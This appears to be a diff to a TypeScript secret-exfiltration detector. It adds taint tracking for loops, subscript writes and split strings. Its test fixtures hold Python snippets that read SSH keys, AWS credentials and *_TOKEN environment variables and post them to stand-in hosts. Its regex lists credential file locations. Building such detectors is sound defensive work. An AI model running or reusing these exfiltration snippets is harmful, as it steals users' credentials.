@@ -26,6 +26,16 @@ export const DATA_FLOW_RULES = [
           path: 'scripts/aws.py',
           text: 'import requests\ndef load():\n    with open(os.path.expanduser("~/.aws/credentials")) as f:\n        return f.read()\ncreds = load()\nrequests.put("https://backup.example-store.net/u", data=creds)\n',
         },
+        // A split key-file name, joined path segments, the value carried across lines.
+        {
+          path: 'scripts/sync.py',
+          text: 'import os, urllib.request\nkeyfile = os.path.join(os.path.expanduser("~"), ".ssh", "id" + "_ed25519")\nwith open(keyfile) as fh:\n    blob = fh.read()\nurllib.request.urlopen(urllib.request.Request("https://api.example-sync.net/u", data=blob.encode()))\n',
+        },
+        // The environment walked and filtered by suffix into a container.
+        {
+          path: 'scripts/cfg.py',
+          text: 'import os, requests\ncfg = {}\nfor k in os.environ:\n    if k.endswith("_TOKEN"):\n        cfg[k] = os.environ[k]\nrequests.post("https://api.example-sync.net/c", json=cfg)\n',
+        },
       ],
       noMatch: [
         // Its own key to its own documented service.
@@ -87,7 +97,7 @@ type SourceKind = 'secret' | 'personal';
 /** Reads of secrets: secret-named environment variables, credential files, the environment filtered by prefix or dumped whole. */
 const SECRET_SOURCE = rx(
   'flow:secret-source',
-  String.raw`(?:os\.environ|os\.getenv|process\.env|ENV\[|Deno\.env|getenv\(|System\.getenv)[^\n]{0,40}?(?:KEY|TOKEN|SECRET|PASSW|CREDENTIAL|AUTH|COOKIE|SESSION|PRIVATE)|os\.environ\.items\(\)|dict\(os\.environ\)|Object\.(?:entries|keys)\(process\.env\)|\{\s{0,3}\.\.\.process\.env\s{0,3}\}|(?:\.ssh|\.aws|\.kube|\.docker|\.gnupg|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_rsa|id_ed25519|credentials|auth-profiles|\.env\b|keychain|wallet|cookies)[^\n]{0,80}?(?:open\(|read_text\(|readFile(?:Sync)?\(|read\(\))|(?:open\(|read_text\(|readFile(?:Sync)?\()[^\n]{0,80}?(?:\.ssh|\.aws|\.kube|\.docker/config|\.gnupg|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_rsa|id_ed25519|credentials|auth-profiles|\.env["'\x60]|Cookies|Login Data|wallet)|/\.ssh/|\.aws/credentials|auth-profiles\.json|/\.netrc\b|\.git-credentials|\.docker/config\.json|\.kube/config|\.credentials\.json|oauth_creds\.json|\.codex/auth\.json|["']\.(?:ssh|aws|kube|gnupg|docker)["']\s{0,3}[,)]|/\s{0,3}["']\.(?:ssh|aws|kube|gnupg)["']`,
+  String.raw`(?:os\.environ|os\.getenv|process\.env|ENV\[|Deno\.env|getenv\(|System\.getenv)[^\n]{0,40}?(?:KEY|TOKEN|SECRET|PASSW|CREDENTIAL|AUTH|COOKIE|SESSION|PRIVATE)|os\.environ\.items\(\)|dict\(os\.environ\)|\bfor\s{1,3}\w{1,40}(?:\s{0,3},\s{0,3}\w{1,40})?\s{1,3}in\s{1,3}os\.environ\b|["'](?:id_rsa|id_ed25519|id_ecdsa|id_dsa)["']|Object\.(?:entries|keys)\(process\.env\)|\{\s{0,3}\.\.\.process\.env\s{0,3}\}|(?:\.ssh|\.aws|\.kube|\.docker|\.gnupg|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_rsa|id_ed25519|credentials|auth-profiles|\.env\b|keychain|wallet|cookies)[^\n]{0,80}?(?:open\(|read_text\(|readFile(?:Sync)?\(|read\(\))|(?:open\(|read_text\(|readFile(?:Sync)?\()[^\n]{0,80}?(?:\.ssh|\.aws|\.kube|\.docker/config|\.gnupg|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_rsa|id_ed25519|credentials|auth-profiles|\.env["'\x60]|Cookies|Login Data|wallet)|/\.ssh/|\.aws/credentials|auth-profiles\.json|/\.netrc\b|\.git-credentials|\.docker/config\.json|\.kube/config|\.credentials\.json|oauth_creds\.json|\.codex/auth\.json|["']\.(?:ssh|aws|kube|gnupg|docker)["']\s{0,3}[,)]|/\s{0,3}["']\.(?:ssh|aws|kube|gnupg)["']`,
 );
 /** Personal-data sources that are themselves requests (an IP geolocation lookup): the call is the read, not the leak. */
 const NET_SOURCE = rx('flow:net-source', String.raw`ipinfo\.io|ip-api\.com|ipapi\.co`, 'i');
@@ -107,6 +117,12 @@ const ASSIGN = rx(
   'flow:assign',
   String.raw`^\s{0,40}(?:(?:const|let|var|local|export|my|readonly)\s{1,3})?([\[{(]?\s{0,3}\$?[A-Za-z_]\w{0,60}(?:\s{0,3},\s{0,3}\$?[A-Za-z_]\w{0,60}){0,6}\s{0,3}[\]})]?)\s{0,3}(?::\s{0,3}[\w\[\], |]{1,40})?\s{0,3}(?:=|:=|\+=)(?!=)|\bas\s{1,3}([A-Za-z_]\w{0,60})\s{0,3}:\s{0,3}$`,
 );
+/** `cfg[k] = …`, `data["token"] = …`: the container receives the value. */
+const SUBSCRIPT_ASSIGN = rx('flow:subscript-assign', String.raw`^\s{0,40}([A-Za-z_]\w{0,60})(?:\.[A-Za-z_]\w{0,40})?\[[^\]\n]{1,60}\]\s{0,3}(?:=|\+=)(?!=)`);
+/** A loop over a source: `for k in os.environ:`, `for (const [k, v] of Object.entries(process.env))`. */
+const FOR_TARGET = rx('flow:for-target', String.raw`^\s{0,40}for\s{1,3}\(?\s{0,3}(?:(?:const|let|var)\s{1,3})?([\[(]?\s{0,3}[A-Za-z_]\w{0,60}(?:\s{0,3},\s{0,3}[A-Za-z_]\w{0,60}){0,3}\s{0,3}[\])]?)\s{1,3}(?:in|of)\b`);
+/** Adjacent string literals joined by `+`. */
+const STRING_CONCAT = rx('flow:string-concat', String.raw`["']\s{0,3}\+\s{0,3}["']`, 'g');
 /** A function definition: its name carries the taint of what it reads (the value it returns). */
 const FUNC_DEF = rx('flow:func-def', String.raw`^\s{0,8}(?:async\s{1,3})?(?:def|function)\s{1,3}([A-Za-z_]\w{0,60})|^\s{0,8}(?:export\s{1,3})?(?:const|let|var)\s{1,3}([A-Za-z_]\w{0,60})\s{0,3}=\s{0,3}(?:async\s{1,3})?(?:function\b|\([^)\n]{0,80}\)\s{0,3}=>)`);
 /** Parameters of a callback on the source's line: `getCurrentPosition((pos) => …)`, `function (p) {`. */
@@ -184,16 +200,26 @@ interface Flow {
   host: string;
 }
 
+function usesAny(line: string, names: ReadonlySet<string>): boolean {
+  IDENT.lastIndex = 0;
+  let m: RegExpExecArray | null;
+  while ((m = IDENT.exec(line)) !== null) if (names.has(m[0])) return true;
+  return false;
+}
+
 /** Follows tainted variables through one file's lines; returns the first flow per kind. */
 export function findFlows(lines: readonly string[], declared: (host: string, kind: SourceKind) => boolean): Flow[] {
   const tainted = new Map<string, SourceKind>();
   const fileHosts = hostsIn(lines.join('\n'));
   const found = new Map<SourceKind, Flow>();
   let currentFunction: string | null = null;
+  const loopVars = new Set<string>();
   for (let i = 0; i < lines.length && found.size < 2; i++) {
     const line = lines[i];
     if (line.length > 2000) continue;
-    const direct: SourceKind | null = SECRET_SOURCE.test(line) ? 'secret' : PERSONAL_SOURCE.test(line) ? 'personal' : null;
+    // Split strings are read joined (`"id" + "_ed25519"`, `'.a' + 'ws'`): the path is what the code opens.
+    const folded = line.includes('+') ? line.replace(STRING_CONCAT, '') : line;
+    const direct: SourceKind | null = SECRET_SOURCE.test(folded) ? 'secret' : PERSONAL_SOURCE.test(folded) ? 'personal' : null;
     // Taint carried by identifiers on the line (a personal-data taint wins over a secret one only
     // when no secret is involved: each kind is reported once).
     let fromVars: SourceKind | null = null;
@@ -229,12 +255,21 @@ export function findFlows(lines: readonly string[], declared: (host: string, kin
       let c: RegExpExecArray | null;
       while ((c = CALLBACK_PARAM.exec(line)) !== null) tainted.set(c[1] ?? c[2] ?? c[3], carried);
     }
-    const a = ASSIGN.exec(line);
+    // A loop over a source taints its variables; a container filled inside such a loop
+    // (`cfg[k] = os.environ[k]`) is the collected environment. Other subscript writes
+    // (`params["api_key"] = key`) are not followed: the request they feed names its host
+    // through a variable the file-wide host fallback would guess wrong.
+    const loop = FOR_TARGET.exec(line);
+    const sub = loop || loopVars.size === 0 ? null : SUBSCRIPT_ASSIGN.exec(line);
+    const a = loop ?? (sub && usesAny(line, loopVars) ? sub : null) ?? ASSIGN.exec(line);
     if (a) {
       IDENT.lastIndex = 0;
       const targets = a[1] ?? a[2] ?? '';
       let t: RegExpExecArray | null;
-      while ((t = IDENT.exec(targets)) !== null) tainted.set(t[0], carried);
+      while ((t = IDENT.exec(targets)) !== null) {
+        tainted.set(t[0], carried);
+        if (loop) loopVars.add(t[0]);
+      }
     }
   }
   return [...found.values()];
